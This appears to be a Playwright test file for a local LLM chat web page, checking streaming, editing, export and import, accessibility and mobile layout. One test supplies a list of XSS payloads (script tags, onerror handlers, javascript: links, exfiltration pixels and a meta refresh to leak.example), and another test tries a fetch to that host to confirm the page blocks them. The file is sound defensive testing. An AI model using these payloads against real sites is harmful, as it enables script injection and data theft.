// The page in headless Chromium: what a reader does with it, and what must not happen.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { test } from "node:test";
import { answered, browser, openPage, ready, say, texts } from "./browser.mjs";

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const eventually = async (check, ms = 9_000) => {
  for (const end = Date.now() + ms; ;) {
    try {
      return await check();
    } catch (error) {
      if (Date.now() > end) throw error;
      await new Promise(resolve => setTimeout(resolve, 50));
    }
  }
};

test("a message is answered as it is written, and survives a reload", async t => {
  let goOn;
  const last = new Promise(resolve => (goOn = resolve));
  const { page, server, problems, outside } = await openPage(t, { script: { text: "One two three **four** five", delay: 60, last } });
  await page.locator("#text").fill("Count");
  await page.locator("#text").press("Enter");
  await page.getByText("One two").waitFor(); // before it is complete:
  assert.equal(await page.locator("#send").getAttribute("aria-label"), "Stop");
  goOn();
  await answered(page);
  assert.deepEqual(await texts(page), ["Count", "One two three four five"]);
  assert.equal(await page.locator("article.assistant strong").innerText(), "four");
  assert.match(await page.locator("article.assistant .usage").innerText(), /^5 tokens · .* per second/);
  assert.match(await page.locator("#usage").innerText(), /^18 of 2,048 tokens/);
  assert.deepEqual(server.requests[0].messages, [{ role: "user", content: "Count" }]);
  assert.deepEqual(server.requests[0].stream_options, { include_usage: true });
  assert.equal(server.requests[0].logprobs, undefined);
  await page.reload();
  await ready(page);
  assert.deepEqual(await texts(page), ["Count", "One two three four five"]);
  assert.equal(await page.title(), "Count – engine");
  await say(page, "Again");
  assert.deepEqual(server.requests[1].messages.map(({ role }) => role), ["user", "assistant", "user"]);
  assert.deepEqual(problems, []);
  assert.deepEqual(outside, []);
});

test("stop ends the answer on the server too, and keeps what was written", async t => {
  const { page, server } = await openPage(t, { script: { text: "word ".repeat(500), delay: 20 } });
  await page.locator("#text").fill("Go on");
  await page.locator("#text").press("Enter");
  await page.getByText("word word").waitFor();
  await page.keyboard.press("Escape");
  await answered(page);
  await page.getByText("Stopped.", { exact: true }).first().waitFor();
  assert.match((await texts(page))[1], /^word word/);
  await eventually(() => assert.equal(server.gone.length, 1));
});

test("how many tokens a stopped answer has is said as well as it is known", async t => {
  const { page, server } = await openPage(t);
  await say(page, "Hi");
  server.script = { text: "word ".repeat(500), delay: 20 };
  await page.locator("#text").fill("Go on");
  await page.locator("#text").press("Enter");
  await page.getByText("word word").waitFor();
  await page.keyboard.press("Escape");
  await answered(page);
  assert.match(await page.locator("article.assistant .usage").last().innerText(), /^about \d+ tokens/);
  assert.match(await page.locator("#usage").innerText(), /^more than \d+ of 2,048 tokens/);
});

test("another answer has another seed, and going on with an answer has its own", async t => {
  const { page, server } = await openPage(t, { preferences: { settings: { seed: 4294967295 } }, script: { text: "One", finish: "length" } });
  await say(page, "Count");
  for (let n = 2; n <= 3; n++) {
    await page.getByRole("button", { name: "Another answer" }).click();
    await page.getByText(`${n} / ${n}`).waitFor();
    await answered(page);
  }
  await page.getByRole("button", { name: "Previous version" }).click();
  await page.getByRole("button", { name: "Continue" }).click();
  await eventually(() => assert.equal(server.requests.length, 4));
  assert.deepEqual(server.requests.map(({ seed }) => seed), [4294967295, 0, 1, 0]);
});

test("a table scrolls before a code span in it breaks within a word", async t => {
  const name = "a_rather_long_function_name", option = "--a-rather-long/option";
  const text = `|a|b|c|\n|-|-|-|\n${`|\`${name}\`|${"many words ".repeat(20)}|\`${option}\`|\n`.repeat(2)}`;
  const { page } = await openPage(t, { script: { pieces: [text] }, viewport: { width: 400, height: 700 } });
  await say(page, "Table");
  const lines = await page.locator("td code").evaluateAll(all => all.map(code => code.getClientRects().length));
  assert.deepEqual(lines, [1, 1, 1, 1]);
});

test("the buttons of a message are within what is painted", async t => {
  const { page } = await openPage(t);
  await say(page, "Hi");
  for (const article of await page.locator("article").all()) {
    const frame = await article.boundingBox();
    for (const button of await article.locator(".foot .icon-button").all()) {
      const box = await button.boundingBox();
      // With the outline of the focus, 4 pixels.
      assert.ok(box.y - 4 >= frame.y && box.y + box.height + 4 <= frame.y + frame.height + 0.5, JSON.stringify({ box, frame }));
      assert.ok(box.x - 2 >= frame.x && box.x + box.width + 2 <= frame.x + frame.width);
    }
  }
});

test("nothing turns text round", async t => {
  const { page } = await openPage(t, { script: { text: "safe \u202egnp.exe **b\u202e** `c\u2066d`\n\n```\nx\u202ey\n```" } });
  await say(page, "see \u202eevil");
  assert.deepEqual(await texts(page), ["see [U+202E]evil", "safe [U+202E]gnp.exe b[U+202E] c[U+2066]d\n\ntext\nCopy\nx[U+202E]y"]);
  assert.equal(await page.locator("#title").innerText(), "see [U+202E]evil");
  assert.ok(!(await page.locator("#list").innerText()).includes("\u202e"));
  assert.equal(await page.title(), "see [U+202E]evil – engine");
});

test("an answer that ended too early is gone on with", async t => {
  const { page, server, problems } = await openPage(t, { preferences: { tokens: true } });
  server.queue.push({ text: "One two", finish: "length" }, { text: " three four", endAfter: 1 }, { status: 503, retryAfter: 1 }, { text: " five" });
  await say(page, "Count");
  await page.getByRole("button", { name: "Token probabilities" }).click();
  for (const expected of ["One two three", "One two three five"]) {
    await page.getByRole("button", { name: "Continue" }).click();
    await eventually(async () => assert.equal((await texts(page))[1], expected));
    await answered(page);
  }
  assert.deepEqual(server.requests.at(-1).messages, [{ role: "user", content: "Count" }, { role: "assistant", content: "One two three" }]);
  assert.deepEqual(server.requests.map(body => body.continue_final_message), [undefined, true, true, true]);
  assert.equal(await page.getByRole("button", { name: "Continue" }).count(), 0);
  assert.match(await page.locator("article.assistant .usage").innerText(), /^4 tokens/);
  await page.getByRole("button", { name: "Token probabilities" }).click();
  assert.deepEqual(await page.locator(".token").allInnerTexts(), ["One", " two", " three", " five"]);
  // Not with one that has been answered.
  server.queue.push({ text: "Six", finish: "length" });
  await say(page, "More");
  await page.getByRole("button", { name: "Continue" }).waitFor();
  await say(page, "More");
  assert.equal(await page.getByRole("button", { name: "Continue" }).count(), 0);
  assert.deepEqual(problems.filter(problem => !/503/.test(problem)), []);
});

test("regenerate, edit, and stepping through the versions", async t => {
  let n = 0;
  const { page, server } = await openPage(t, { script: { text: body => `Answer ${++n} to ${body.messages.at(-1).content}` } });
  await say(page, "first");
  await say(page, "second");
  await page.getByRole("button", { name: "Another answer" }).last().click();
  await answered(page);
  assert.deepEqual(await texts(page), ["first", "Answer 1 to first", "second", "Answer 3 to second"]);
  assert.equal(server.requests[2].messages.length, 3); // not the answer that is replaced
  await page.getByRole("button", { name: "Previous version" }).click();
  assert.equal((await texts(page))[3], "Answer 2 to second");
  // Editing the first message begins a branch; the other one stays.
  await page.locator("article.user").first().hover();
  await page.getByRole("button", { name: "Edit and answer anew" }).first().click();
  await page.getByRole("textbox", { name: "Your message" }).fill("other");
  await page.getByRole("button", { name: "Send" }).first().click();
  await answered(page);
  assert.deepEqual(await texts(page), ["other", "Answer 4 to other"]);
  await page.reload();
  await ready(page);
  assert.deepEqual(await texts(page), ["other", "Answer 4 to other"]);
  await page.getByRole("button", { name: "Previous version" }).first().click();
  assert.deepEqual(await texts(page), ["first", "Answer 1 to first", "second", "Answer 2 to second"]);
  // An answer can be edited as well, without a request.
  await page.getByRole("button", { name: "Edit this answer" }).last().click();
  await page.getByRole("textbox", { name: "Answer" }).fill("Mine");
  await page.getByRole("button", { name: "Save" }).click();
  await eventually(async () => assert.equal((await texts(page))[3], "Mine"));
  assert.equal(server.requests.length, 4);
  await say(page, "third");
  assert.deepEqual(server.requests[4].messages.map(({ content }) => content), ["first", "Answer 1 to first", "second", "Mine", "third"]);
});

test("a message is edited with the keyboard alone", async t => {
  const { page, server } = await openPage(t, { script: { text: body => `About ${body.messages.at(-1).content}` } });
  await say(page, "cats");
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("Shift+Enter");
  await page.keyboard.type("and dogs");
  await page.keyboard.press("Enter");
  await eventually(() => assert.equal(server.requests.length, 2));
  await answered(page);
  assert.deepEqual(server.requests[1].messages, [{ role: "user", content: "cats\nand dogs" }]);
  await page.getByRole("button", { name: "Edit this answer" }).press("Enter");
  await page.getByRole("textbox", { name: "Answer" }).press("Enter"); // a new line
  await page.keyboard.type("Mine");
  await page.keyboard.press("Control+Enter");
  await eventually(async () => assert.equal((await texts(page))[1], "About cats and dogs Mine"));
});

test("what a hostile model writes does nothing", async t => {
  const hostile = [
    "<script>window.hacked = 1</script>", '<img src=x onerror="window.hacked = 2">', '<iframe src="javascript:parent.hacked=3"></iframe>', "<style>body{display:none}</style>",
    "[a](javascript:window.hacked=4)", "[b](JaVa\tScRiPt:hacked=5)", "[c](data:text/html,<script>hacked=6</script>)", "[d](vbscript:x)", "[e](/v1/models)", "<javascript:hacked=7>", "[f](java&#115;cript:hacked=8)",
    "![pixel](https://leak.example/?q=secret)", '![x](https://leak.example/" onerror="hacked=9)', '[g](https://leak.example/?q=1 "x\\" onmouseover=\\"hacked=10")',
    "```html\n<script>hacked=11</script>\n```", '```"><script>hacked=12</script>\nx\n```', "| <b onclick=hacked=13> |\n| --- |\n| <svg onload=hacked=14> |", "# <svg/onload=hacked=15>", "[ref]: javascript:hacked=16\n\n[ref]",
    "<a href=javascript:hacked=17>h</a>", "&lt;script&gt;hacked=18&lt;/script&gt;", "[\u202Etxt.exe](https://leak.example/x)", "<base href=https://leak.example/>", '<meta http-equiv="refresh" content="0;url=https://leak.example">',
  ].join("\n\n");
  const { page, context, outside, problems } = await openPage(t, { script: { pieces: [hostile.slice(0, 300), hostile.slice(300)], reasoning: "<img src=x onerror=hacked=20> [z](javascript:hacked=21)" } });
  await say(page, "<script>window.hacked = 30</script>");
  await page.locator(".thoughts summary").click();
  // Nothing but the elements that Markdown has, without attributes that act; links lead to https only.
  const found = await page.evaluate(() => {
    const all = [...document.querySelectorAll("#messages .body *, #messages .thoughts-text *")];
    return {
      tags: [...new Set(all.map(node => node.localName))].sort(), acting: all.filter(node => [...node.attributes].some(({ name }) => /^on|^style$|^src/.test(name))).length,
      links: [...new Set(all.filter(node => node.localName === "a").map(node => node.protocol))],
    };
  });
  assert.deepEqual(found.tags.filter(tag => /script|img|iframe|style|base|meta|object|embed|form|input|video|audio/.test(tag)), []);
  assert.equal(found.acting, 0);
  assert.deepEqual(found.links, ["https:"]);
  // A link asks first, and shows the whole address; the middle button is no way around it.
  const link = page.locator("article.assistant a").first();
  for (const button of ["left", "middle"]) {
    await link.click({ button });
    const dialog = page.getByRole("dialog");
    assert.equal(await dialog.locator(".address").innerText(), "https://leak.example/?q=secret");
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
  }
  for (const text of ["a", "b", "c", "f", "ref", "h"]) assert.equal(await page.locator("article.assistant a", { hasText: new RegExp(`^${text}$`) }).count(), 0);
  // Tokens and titles are shown elsewhere too.
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  assert.equal(context.pages().length, 1);
  assert.deepEqual(outside, []);
  assert.deepEqual(problems, []);
  assert.equal(await page.locator("#title").innerText(), "<script>window.hacked = 30</script>");
});

test("the server's policy stops what the page itself might let through", async t => {
  const { page, outside } = await openPage(t);
  const result = await page.evaluate(async () => {
    const stopped = [];
    const script = document.createElement("script");
    try { script.textContent = "window.hacked = 1"; } catch { stopped.push("script"); }
    document.body.append(script);
    try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = 2'>"); } catch { stopped.push("html"); }
    const image = document.createElement("img");
    image.src = "https://leak.example/pixel";
    document.body.append(image);
    await fetch("https://leak.example/").catch(() => stopped.push("fetch"));
    await new Promise(resolve => setTimeout(resolve, 200));
    return { stopped, hacked: window.hacked };
  });
  assert.deepEqual(result, { stopped: ["script", "html", "fetch"], hacked: undefined });
  assert.deepEqual(outside.filter(address => !address.includes("leak.example")), []);
});

test("errors are said plainly, and can be tried again", async t => {
  const { page, server } = await openPage(t);
  let breakOff;
  const last = new Promise(resolve => { breakOff = resolve; });
  server.queue.push({ status: 400, code: "context_length_exceeded", message: "The messages have 3000 tokens." }, { status: 500, message: "Out of memory." }, { text: "one two three", breakAfter: 2, last }, { text: "four five six", endAfter: 1 }, { status: 429, retryAfter: 1 }, { text: "At last" });
  await say(page, "a");
  assert.match(await page.locator(".error").innerText(), /no longer fits[\s\S]*3000 tokens/);
  await page.getByRole("button", { name: "Try again" }).click();
  await page.getByText("Out of memory.").first().waitFor();
  await page.getByRole("button", { name: "Try again" }).click();
  await page.getByText("one two").waitFor(); // a broken connection may lose what has not been read
  breakOff();
  await page.locator(".error", { hasText: /broke off|went away/ }).waitFor();
  assert.equal((await texts(page))[1], "one two"); // what came is kept
  await page.getByRole("button", { name: "Try again" }).click();
  await page.locator(".error", { hasText: "broke off" }).waitFor();
  assert.equal((await texts(page))[1], "four");
  await page.getByRole("button", { name: "Try again" }).click();
  await page.getByText(/busy. Trying again in 1 s/).waitFor();
  await page.getByText("At last").first().waitFor();
  assert.equal(await page.locator(".error").count(), 0);
  assert.equal(server.requests.length, 6);
});

test("a server that goes away and comes back", async t => {
  const { page, server } = await openPage(t);
  await say(page, "a");
  await server.close();
  await say(page, "b");
  await page.locator("#notice", { hasText: "does not answer" }).waitFor();
  const { startServer } = await import("./mock-server.mjs");
  const other = await startServer({ port: server.port });
  t.after(() => other.close());
  await page.locator("#notice p").waitFor({ state: "detached" });
  await say(page, "c"); // the answer that never came is left out; many templates want the roles in turns
  assert.deepEqual(other.requests[0].messages.map(({ role, content }) => [role, content]), [["user", "a"], ["assistant", "Hello!"], ["user", "b\n\nc"]]);
  await page.getByRole("button", { name: "Try again" }).click();
  await page.locator("article.assistant").nth(1).getByText("Hello!").waitFor();
});

test("a key is asked for once, and kept only if wanted", async t => {
  const { page, context, server } = await openPage(t, { server: { key: "secret" } });
  await page.getByRole("dialog").waitFor();
  await page.getByLabel("API key").fill("wrong");
  await page.keyboard.press("Enter");
  await page.getByText("wrong or missing").waitFor();
  await page.getByLabel("API key").fill("secret");
  await page.keyboard.press("Enter");
  await ready(page);
  await say(page, "hello");
  assert.deepEqual(await texts(page), ["hello", "Hello!"]);
  assert.equal(await page.evaluate(() => localStorage.getItem("engine.key")), null);
  await page.reload();
  await ready(page); // the tab knows it
  const other = await context.newPage();
  await other.goto(server.url);
  await other.getByLabel("API key").fill("secret");
  await other.getByLabel("Remember it in this browser").check();
  await other.keyboard.press("Enter");
  await ready(other);
  const third = await context.newPage();
  await third.goto(server.url);
  await ready(third);
  await third.getByRole("button", { name: "Settings" }).click();
  await third.getByRole("button", { name: "Forget the key" }).click();
  assert.equal(await third.evaluate(() => localStorage.getItem("engine.key")), null);
});

test("settings and the system prompt go to the server, and stay", async t => {
  const { page, server } = await openPage(t, { server: { models: ["small", "large"] } });
  await page.locator("#model").selectOption("large");
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByLabel("System prompt").fill("Be brief.");
  await page.getByText("Sampling").click();
  assert.equal(await page.getByLabel("Temperature").getAttribute("placeholder"), "0.8");
  await page.getByLabel("Temperature").fill("0.25");
  await page.getByLabel("Seed").fill("7");
  await page.getByLabel("Use these for new conversations too").check();
  await page.getByLabel("Dark", { exact: true }).check({ force: true });
  await page.keyboard.press("Escape");
  await page.locator("dialog.settings").waitFor({ state: "detached" }); // then they are taken over
  await say(page, "hi");
  const { model, temperature, seed, top_p, messages } = server.requests[0];
  assert.deepEqual({ model, temperature, seed, top_p, messages }, { model: "large", temperature: 0.25, seed: 7, top_p: undefined, messages: [{ role: "system", content: "Be brief." }, { role: "user", content: "hi" }] });
  await page.reload();
  await ready(page);
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark");
  await page.getByRole("button", { name: "New conversation", exact: true }).click();
  await say(page, "hi again");
  assert.equal(server.requests[1].messages[0].content, "Be brief.");
  assert.equal(server.requests[1].model, "large");
});

test("conversations are listed, searched, renamed, deleted", async t => {
  const { page } = await openPage(t, { script: { text: body => `about ${body.messages.at(-1).content}` } });
  for (const text of ["apples", "bears", "cars"]) {
    await page.getByRole("button", { name: "New conversation", exact: true }).click();
    await say(page, text);
  }
  const titles = () => page.locator("#list .open").allInnerTexts();
  assert.deepEqual(await titles(), ["cars", "bears", "apples"]);
  await page.getByLabel("Search conversations").fill("about be");
  await eventually(async () => assert.deepEqual(await titles(), ["bears"]));
  await page.getByLabel("Search conversations").fill("");
  await eventually(async () => assert.equal((await titles()).length, 3));
  await page.locator("#list li").nth(1).hover();
  await page.getByRole("button", { name: "Rename “bears”" }).click();
  await page.getByRole("textbox", { name: "Name" }).fill("Grizzlies");
  await page.keyboard.press("Enter");
  await eventually(async () => assert.deepEqual((await titles()).sort(), ["Grizzlies", "apples", "cars"]));
  await page.locator("#list .open", { hasText: "Grizzlies" }).click();
  await eventually(async () => assert.deepEqual(await texts(page), ["bears", "about bears"]));
  await page.locator("#list li", { hasText: "Grizzlies" }).hover();
  await page.getByRole("button", { name: "Delete “Grizzlies”" }).click();
  await page.getByRole("button", { name: "Delete", exact: true }).click();
  await eventually(async () => assert.deepEqual(await titles(), ["cars", "apples"]));
  assert.equal(await page.locator(".welcome").count(), 1);
  await page.reload();
  await ready(page);
  assert.deepEqual(await titles(), ["cars", "apples"]);
});

test("export, and import into another browser", async t => {
  const one = await openPage(t, { script: { text: "Some **text**" } });
  await say(one.page, "Question?");
  await one.page.getByRole("button", { name: "Another answer" }).click();
  await answered(one.page);
  const download = async name => {
    await one.page.getByRole("button", { name: "More" }).click();
    const [file] = await Promise.all([one.page.waitForEvent("download"), one.page.getByRole("button", { name }).click()]);
    return { name: file.suggestedFilename(), path: await file.path() };
  };
  const markdown = await download("Export as Markdown");
  assert.equal(markdown.name, "Question.md");
  assert.equal(readFileSync(markdown.path, "utf8"), "# Question?\n\n## You\n\nQuestion?\n\n## demo\n\nSome **text**\n");
  const json = await download("Export as JSON");
  const two = await openPage(t);
  const importText = async text => {
    await two.page.getByRole("button", { name: "Settings" }).first().click();
    await two.page.locator("input[type=file]").setInputFiles({ name: "x.json", mimeType: "application/json", buffer: Buffer.from(text) });
    const dialog = two.page.getByRole("dialog", { name: /imported/i });
    const said = await dialog.innerText();
    await two.page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
    return said;
  };
  assert.match(await importText(readFileSync(json.path, "utf8")), /One conversation was added/);
  assert.deepEqual(await texts(two.page), ["Question?", "Some text"]);
  assert.equal(await two.page.getByText("2 / 2").count(), 1);
  // What is not one of our files is refused; what is wrong in one is left out.
  assert.match(await importText("{"), /not JSON/);
  assert.match(await importText("[]"), /not exported from this page/);
  assert.match(await importText('{"format":"engine-conversations","version":1,"conversations":[7]}'), /no messages/);
  const twisted = { id: "x", title: { a: 1 }, messages: { a: { parent: "", role: "user", content: 7 }, b: { parent: "c", role: "user", content: "circle" }, c: { parent: "b", role: "user", content: "circle" },
    d: { parent: "a", role: "assistant", content: "<script>hacked = 1</script>", tokens: [{}, null], usage: "x", state: "odd", error: 3 }, __proto__: { parent: "", role: "system" } }, chosen: { "": "zzz", a: "d" }, settings: { temperature: "hot", seed: 3 } };
  assert.match(await importText(JSON.stringify({ format: "engine-conversations", version: 1, conversations: [twisted] })), /One conversation/);
  assert.deepEqual(await texts(two.page), ["", "<script>hacked = 1</script>"]);
  assert.deepEqual(two.problems, []);
});

test("thinking is set apart; tokens show their probabilities; attention has its frame", async t => {
  const { page, server, problems } = await openPage(t, { script: { text: "A fox <b>ran</b>", reasoning: "Let me *think* about foxes." }, preferences: { tokens: true } });
  await say(page, "Fox?");
  assert.equal(server.requests[0].top_logprobs, 5);
  assert.equal(await page.locator(".thoughts-text em").isVisible(), false);
  await page.locator(".thoughts summary").click();
  assert.equal(await page.locator(".thoughts-text em").innerText(), "think");
  await page.getByRole("button", { name: "Token probabilities" }).click();
  assert.equal(await page.locator(".token").count(), 3);
  await page.locator(".token").nth(1).hover();
  assert.match(await page.locator(".token-card").innerText(), /␣fox\s+67.0 %\s+␣other\s+22.3 %\s+<b>\s+8.2 %/);
  await page.locator(".token-list").focus();
  await page.keyboard.press("End");
  assert.match(await page.locator(".token[aria-selected]").getAttribute("aria-label"), /^␣<b>ran<\/b> .* %; instead: ␣other 22.3 %/);
  await page.getByRole("button", { name: "Attention weights" }).click();
  const frame = page.frameLocator("iframe.attention");
  assert.equal(await frame.locator("h1").innerText(), "Weights shown apart");
  assert.deepEqual(server.attention[0].messages.map(({ role }) => role), ["user", "assistant"]);
  await page.keyboard.press("Escape");
  assert.deepEqual(problems, []);
  // The next request does not repeat the thoughts.
  await say(page, "More");
  assert.deepEqual(server.requests[1].messages[1], { role: "assistant", content: "A fox <b>ran</b>" });
});

test("the thread follows what is written until the reader scrolls up", async t => {
  const { page } = await openPage(t, { script: { text: "line of text\n\n".repeat(300), delay: 4 } });
  await page.locator("#text").fill("Go");
  await page.locator("#text").press("Enter");
  const gap = () => page.locator("#thread").evaluate(node => node.scrollHeight - node.scrollTop - node.clientHeight);
  await eventually(async () => assert.ok((await page.locator("#thread").evaluate(node => node.scrollTop)) > 500));
  assert.ok((await gap()) < 60);
  await page.locator("#thread").hover();
  await page.mouse.wheel(0, -400);
  await page.locator("#to-end").waitFor();
  const top = await page.locator("#thread").evaluate(node => node.scrollTop);
  await page.waitForTimeout(300);
  assert.equal(await page.locator("#thread").evaluate(node => node.scrollTop), top);
  await page.locator("#to-end").click();
  await eventually(async () => assert.ok((await gap()) < 60));
});

test("a long conversation opens at once", async t => {
  const { page } = await openPage(t);
  const messages = {}, chosen = {};
  for (let i = 0, parent = ""; i < 2000; i++) {
    const id = `m${i}`;
    messages[id] = { id, parent, role: i % 2 ? "assistant" : "user", content: `Message ${i}\n\n- some\n- **points**\n\n\`\`\`c\nint i = ${i};\n\`\`\`\n`.repeat(i % 2 ? 8 : 1), created: i + 1, state: "complete" };
    chosen[parent] = parent = id;
  }
  const file = JSON.stringify({ format: "engine-conversations", version: 1, conversations: [{ title: "Long", messages, chosen, settings: {} }] });
  await page.getByRole("button", { name: "Settings" }).click();
  await page.locator("input[type=file]").setInputFiles({ name: "x.json", mimeType: "application/json", buffer: Buffer.from(file) });
  await page.getByRole("dialog", { name: "Imported" }).waitFor();
  await page.keyboard.press("Escape");
  assert.equal(await page.locator("article").count(), 2000);
  assert.ok((await page.locator("article figure.code").count()) < 2000); // Markdown as it comes near
  await page.locator("#thread").evaluate(node => (node.scrollTop = 0));
  await page.locator("article.assistant").first().locator("figure.code").first().waitFor();
});

test("the keyboard alone is enough", async t => {
  const { page } = await openPage(t);
  const press = async (...keys) => { for (const key of keys) await page.keyboard.press(key); };
  const focused = () => page.evaluate(() => document.activeElement.getAttribute("aria-label") || document.activeElement.innerText.trim());
  assert.equal(await focused(), "Message");
  await page.keyboard.type("one");
  await press("Shift+Enter");
  await page.keyboard.type("two");
  await press("Enter");
  await answered(page);
  assert.equal((await texts(page))[0], "one\ntwo");
  assert.equal(await focused(), "Message");
  await press("ArrowUp"); // edits the last message
  assert.equal(await focused(), "Your message");
  await press("Escape");
  assert.equal(await focused(), "Edit and answer anew");
  for (let i = 0; i < 30 && (await focused()) !== "Another answer"; i++) await press("Tab");
  await press("Enter");
  await answered(page);
  assert.equal(await page.getByText("2 / 2").count(), 1);
  // Every element that has the focus shows it, and the order goes through the page once.
  await page.locator(".skip").focus();
  const order = [];
  for (let i = 0; i < 40; i++, await press("Tab")) {
    const now = await page.evaluate(() => {
      const node = document.activeElement, style = getComputedStyle(node);
      return node === document.body ? null : { name: node.getAttribute("aria-label") || node.innerText.trim() || node.id, shown: style.outlineStyle !== "none" || node.id === "text" };
    });
    if (!now || order.some(({ name }) => name === now.name && name === order[0]?.name)) break;
    assert.ok(now.shown, `${now.name} does not show the focus`);
    order.push(now);
  }
  const names = order.map(({ name }) => name), at = name => names.findIndex(one => one.startsWith(name));
  assert.equal(names[0], "Skip to the message box");
  await page.locator(".skip").focus();
  await press("Enter");
  assert.equal(await focused(), "Message");
  assert.match(page.url(), /#[0-9a-f]{24}$/); // still the conversation's
  for (const [before, after] of [["New conversation", "Search"], ["Search", "one"], ["one", "Settings"], ["Settings", "demo"], ["More", "Copy"], ["Another answer", "Message"]])
    assert.ok(at(before) >= 0 && at(before) < at(after), `${before} comes before ${after}: ${names.join(", ")}`);
  // The menu: opened, moved in, closed.
  await page.getByRole("button", { name: "More" }).focus();
  await press("Enter", "ArrowDown");
  assert.equal(await focused(), "Export as Markdown");
  await press("Escape");
  assert.equal(await focused(), "More");
});

test("a screen reader is told what happens", async t => {
  const { page, server } = await openPage(t, { script: { text: "**Forty**-`two`.", delay: 50 } });
  const said = page.locator("#announcer");
  await said.evaluate(node => { // all that it says: a short answer may end before anyone looks
    window.said = [];
    new MutationObserver(() => window.said.push(node.textContent)).observe(node, { childList: true, characterData: true, subtree: true });
  });
  await page.locator("#text").fill("Say it");
  await page.locator("#text").press("Enter");
  const all = async () => (await page.evaluate(() => window.said)).join(" ");
  await eventually(async () => assert.match(await all(), /Answering.*Answer complete\. Forty-two\./));
  server.queue.push({ status: 500, message: "Out of memory." });
  await say(page, "More");
  await eventually(async () => assert.match(await said.innerText(), /Out of memory/));
});

test("a phone: the list slides over, nothing is wider than the screen", async t => {
  const { page } = await openPage(t, { viewport: { width: 360, height: 640 }, hasTouch: true, isMobile: true, script: { text: `A ${"long".repeat(60)} word\n\n\`\`\`\n${"x".repeat(400)}\n\`\`\`\n\n| ${"a | ".repeat(20)}\n|${" - |".repeat(20)}\n` } });
  const wide = () => page.evaluate(() => document.scrollingElement.scrollWidth);
  assert.ok((await wide()) <= 360);
  await page.locator("#text").fill("Hello");
  await page.locator("#send").tap();
  await answered(page);
  assert.equal(await page.evaluate(() => document.activeElement.id), ""); // the keyboard is away
  assert.ok((await wide()) <= 360);
  assert.equal(await page.locator("#thread").evaluate(node => node.scrollWidth <= node.clientWidth), true);
  assert.equal(await page.locator("#sidebar").isVisible(), false);
  await page.getByRole("button", { name: "Conversations" }).tap();
  assert.equal(await page.locator("#sidebar").isVisible(), true);
  assert.equal(await page.evaluate(() => document.querySelector("main").inert), true);
  await page.getByRole("button", { name: /^Delete “Hello”/ }).waitFor();
  await page.getByRole("button", { name: "New conversation" }).tap();
  assert.equal(await page.locator("#sidebar").isVisible(), false);
  assert.equal(await page.locator(".welcome").count(), 1);
  const small = await page.evaluate(() => [...document.querySelectorAll("button, select")].filter(node => node.checkVisibility() && node.getBoundingClientRect().height < 24).map(node => node.outerHTML.slice(0, 80)));
  assert.deepEqual(small, []);
});

test("another tab sees what this one does", async t => {
  const { page, context, server } = await openPage(t);
  const other = await context.newPage();
  await other.goto(server.url);
  await ready(other);
  await say(page, "from here");
  await other.locator("#list .open", { hasText: "from here" }).waitFor();
});

test("axe finds no fault: light, dark, phone, dialogs, tokens", async t => {
  const { page, server } = await openPage(t, { server: { models: ["a", "b"] }, preferences: { tokens: true },
    script: { reasoning: "Thinking", text: "# Title\n\nText with `code`, a [link](https://x.y) and ![image](https://x.y/z)\n\n```python\n# comment\nprint('x', 1)\n```\n\n> quote\n\n- [x] done\n\n| a | b |\n| - | - |\n| 1 | 2 |" } });
  const check = async what => {
    await page.waitForTimeout(200); // colours move for a moment
    const violations = await evaluate("axe.run().then(({ violations }) => violations.map(({ id, impact, nodes }) => ({ id, impact, nodes: nodes.map(({ html }) => ({ html })) })))");
    assert.deepEqual(violations.map(({ id, impact, nodes }) => `${what}: ${impact} ${id}: ${nodes.map(node => node.html.slice(0, 120)).join(" | ")}`), []);
  };
  const cdp = await page.context().newCDPSession(page);
  const evaluate = async expression => {
    const { result, exceptionDetails } = await cdp.send("Runtime.evaluate", { expression, awaitPromise: true, returnByValue: true });
    if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text);
    return result.value;
  };
  await evaluate(`${axe}; 0`); // by the debugger, because the page's policy lets no script in
  await check("empty");
  await say(page, "Show me");
  await page.locator(".thoughts summary").click();
  await check("answer");
  await page.emulateMedia({ colorScheme: "dark" });
  await check("dark");
  await page.getByRole("button", { name: "Token probabilities" }).click();
  await page.locator(".token").first().hover();
  await check("tokens, dark");
  await page.emulateMedia({ colorScheme: "light" });
  await check("tokens");
  server.queue.push({ status: 500, message: "Out of memory." });
  await say(page, "More");
  await check("error");
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByText("Sampling").click();
  await check("settings");
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "More" }).click();
  await check("menu");
  await page.keyboard.press("Escape");
  await page.setViewportSize({ width: 360, height: 640 });
  await check("phone");
  await page.getByRole("button", { name: "Conversations" }).click();
  await check("list on a phone");
});
